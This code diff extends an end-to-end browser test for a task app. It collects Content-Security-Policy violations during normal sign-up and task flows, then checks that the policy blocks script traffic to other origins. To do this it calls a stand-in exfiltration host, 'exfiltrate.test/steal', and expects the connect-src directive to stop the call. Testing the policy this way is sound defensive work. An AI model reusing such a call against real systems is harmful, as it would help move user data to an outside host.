@@ -85,6 +85,11 @@ test("A's tasks stay A's: sign up, add, complete, sign out; B sees nothing; A se
   const bob = newUser("bob");
   const context = await browser.newContext();
   const page = await context.newPage();
+  // The Content-Security-Policy (proxy.ts) must not block anything the app itself does.
+  const violations = [];
+  page.on("console", (message) => {
+    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+  });
 
   await signUp(page, alice);
   await page.getByText("No tasks yet").waitFor();
@@ -128,6 +133,17 @@ test("A's tasks stay A's: sign up, add, complete, sign out; B sees nothing; A se
     "false",
   );
   await shot(page, "alice-sees-both");
+  assert.deepEqual(violations, [], "the app's own pages broke its Content-Security-Policy");
+
+  // ... and it does block what the app never does: a script calling another origin.
+  const blocked = await page.evaluate(async () => {
+    const violation = new Promise((resolve) =>
+      document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), { once: true }),
+    );
+    await fetch("http://exfiltrate.test/steal").catch(() => {});
+    return Promise.race([violation, new Promise((resolve) => setTimeout(() => resolve(null), 3000))]);
+  });
+  assert.equal(blocked, "connect-src");
   await context.close();
 });
 
